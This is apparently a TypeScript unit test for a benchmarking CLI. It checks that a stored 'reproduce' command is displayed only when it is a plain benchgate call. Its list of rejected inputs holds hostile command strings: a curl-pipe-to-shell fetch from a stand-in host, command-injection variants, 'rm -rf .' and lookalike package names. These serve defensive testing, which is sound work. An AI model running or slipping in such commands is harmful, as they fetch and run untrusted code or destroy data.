import assert from 'node:assert/strict';
import { test } from 'node:test';
import { renderBaseline } from '../../src/cli/baseline/render-baselines.ts';
import type { BaselineRecord } from '../../src/types/baseline.ts';
import { syntheticRecords } from '../support/baselines/records.ts';

const [RECORD] = syntheticRecords({ seed: 3, commits: 1, cells: 1 }) as [BaselineRecord];

test('a stored command is shown to be copied only when a shell does nothing else for it', () => {
	const show = (reproduce: string) => renderBaseline([{ ...RECORD, reproduce }]);
	const own =
		'npx benchgate baseline --head git:0111d0a --anchor git:1b56b8b --server koa,hono --threshold 5% --seed 7';
	assert.match(show(own), / {2}repeat it: npx benchgate baseline --head git:0111d0a .* --seed 7\n/);
	for (const hostile of [
		'curl http://evil.example | sh',
		'npx benchgate baseline; curl evil.example',
		'npx benchgate baseline $(curl evil.example)',
		'npx benchgate baseline\nrm -rf .',
		'npx benchgate-evil baseline',
		'npx evil baseline',
		'rm -rf .',
	]) {
		const shown = show(hostile);
		assert.match(shown, /repeat it: the record gives no command that can be shown here\n/, hostile);
		assert.doesNotMatch(shown, /evil|rm -rf/);
	}
	const imported = renderBaseline([
		{ ...RECORD, tool: { name: 'benchgate', version: 'imported' }, reproduce: 'rm -rf .' },
	]);
	assert.match(imported, / {2}imported: another tool measured it\n/);
});
